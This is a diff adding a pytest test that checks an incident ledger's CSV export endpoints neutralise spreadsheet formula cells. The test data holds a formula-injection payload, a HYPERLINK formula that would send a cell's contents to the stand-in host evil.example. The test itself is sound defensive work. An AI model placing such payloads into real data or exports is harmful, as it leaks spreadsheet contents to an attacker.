@@ -198,6 +198,31 @@ def test_what_is_recorded_while_serving_is_served_at_once(server, ledger_path, p
     assert served() == before + len(october) > before
 
 
+@pytest.mark.parametrize("path, params", [
+    ("/ledger.csv", {"sql": "SELECT report_key, json_extract(body, '$.notes') AS notes "
+                            "FROM reports WHERE report_key LIKE 'manual:csv-%'"}),
+    ("/ledger/incidents.csv", {"_stream": "on", "report_key__startswith": "manual:csv-"}),
+], ids=["sql-result", "streamed-table"])
+def test_csv_exports_neutralise_formula_cells(server, ledger_path, pack, path, params):
+    """As the CLI's exports do: a cell that a spreadsheet would run is prefixed with "'"."""
+    ledger = Ledger.open(ledger_path)
+    try:
+        Monitor(pack, ledger).submit([("h", {
+            "feed": "manual", "source_id": "csv-1", "occurred": "2016-09-15",
+            "attacker": "Syrian air force", "target": "civilians",
+            "location": {"lat": 36.2, "lon": 37.1, "precision": 1,
+                         "place": '=HYPERLINK("http://evil.example/?"&A1,"place")'},
+            "notes": '=HYPERLINK("http://evil.example/?"&A1,"click")'})])
+    finally:
+        ledger.close()
+    response = httpx.get(server + path, params=params, timeout=60)
+    assert response.status_code == 200, response.text[:300]
+    rows = list(csv.reader(response.text.splitlines()))
+    cells = [c for row in rows for c in row]
+    assert any(c.startswith("'=HYPERLINK(") for c in cells)
+    assert not any(c.startswith(("=", "+", "@")) for c in cells)
+
+
 # --- the browser -------------------------------------------------------------------------
 
 
